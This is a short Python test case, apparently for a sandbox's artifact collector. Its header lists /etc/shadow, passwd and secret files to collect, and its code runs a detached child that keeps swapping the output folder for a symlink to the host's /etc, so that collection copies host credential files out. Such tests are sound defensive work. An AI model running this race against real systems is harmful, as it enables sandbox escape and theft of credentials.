#: collect = ["**/shadow", "**/passwd", "**/hostname", "**/secret"]
#: artifacts = {}
#: repeat = 2
#: within = 20
# A child goes on swapping a folder for a link to the host's while the run ends and is collected.
import os

if os.fork() == 0:
    os.setsid()
    while True:
        os.makedirs("/box/out/etc", exist_ok=True)
        os.rename("/box/out", "/box/aside")
        os.symlink("/etc", "/box/out")
        os.unlink("/box/out")
        os.rename("/box/aside", "/box/out")
